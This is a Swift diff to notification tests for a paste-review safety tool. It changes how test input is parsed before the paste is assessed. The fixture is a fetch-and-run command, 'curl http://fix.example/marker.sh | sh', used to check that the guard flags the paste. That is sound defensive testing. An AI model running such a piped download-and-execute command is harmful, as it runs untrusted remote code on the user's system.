@@ -1,3 +1,4 @@
+import RichText
 import Sanitizer
 import Selections
 import Testing
@@ -49,7 +50,8 @@ struct NotificationTests {
   private func notification(
     _ event: CopyReport.Judgement.Paste.Event, of application: String = "xterm", show: NotificationSettings.Show
   ) throws -> Notification? {
-    let assessment = PasteReview.assess(Array("curl http://fix.example/marker.sh | sh\n".utf8))
+    let text = try PlainTextFormat().read(Array("curl http://fix.example/marker.sh | sh\n".utf8)).document
+    let assessment = PasteReview.assess(text)
     let judgement = try #require(CopyReport.Judgement(assessment, GuardSettings()))
     return Notification(.init(application: application, event: event), judgement, show: show, number: 7)
   }
